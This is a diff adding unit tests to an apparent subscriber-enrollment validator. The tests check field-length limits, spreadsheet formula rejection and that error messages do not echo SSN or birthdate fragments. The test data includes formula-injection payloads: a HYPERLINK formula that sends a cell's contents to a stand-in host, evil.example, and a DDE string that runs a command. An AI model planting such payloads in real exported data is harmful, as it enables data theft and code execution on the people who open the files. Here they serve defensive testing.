@@ -139,6 +139,14 @@ def test_date_of_birth_today_and_us_format_are_accepted():
         ("relationship", "Cousin", "code"),
         ("disabled", "maybe", "code"),
         ("arbitration_signed", "Yes", "code"),
+        ("first_name", "A" * 101, "too_long"),
+        ("city", "B" * 101, "too_long"),
+        ("zip", "94612-12345", "too_long"),
+        ("first_name", '=HYPERLINK("http://evil.example/?x="&G4,"Open")', "formula_like"),
+        ("last_name", "=cmd|' /C calc'!A0", "formula_like"),
+        ("address_line1", "@SUM(1+1)", "formula_like"),
+        ("city", "+1+1", "formula_like"),
+        ("email", "-2+3@example.com", "formula_like"),
     ],
 )
 def test_format_and_code_list_errors(key, value, code):
@@ -156,6 +164,9 @@ def test_format_and_code_list_errors(key, value, code):
         ("phone", "1-510-555-0123"),
         ("middle_initial", "Q"),
         ("arbitration_signed", "Y"),
+        ("phone", "+1 510 555 0123"),
+        ("first_name", "A" * 100),
+        ("last_name", "O'Neil-Smith"),
     ],
 )
 def test_well_formed_optional_values_pass(key, value):
@@ -270,3 +281,10 @@ def test_unknown_group_or_group_that_cannot_enroll_is_rejected():
 def test_rejection_outranks_errors():
     v = verdict(subscriber(subgroup_id="0009", first_name=None))
     assert v.status == "rejected" and codes(v) == {"subgroup_invalid", "required"}
+
+
+def test_a_message_never_quotes_much_of_what_was_typed():
+    for typed in ("123-45-6789 and more text", "123-45-6789", "06/15/1988"):
+        v = verdict(subscriber(gender=typed))
+        assert v.status == "error" and all("6789" not in i.message and "1988" not in i.message for i in v.issues)
+    assert "'Q' is not allowed" in verdict(subscriber(gender="Q")).issues[0].message
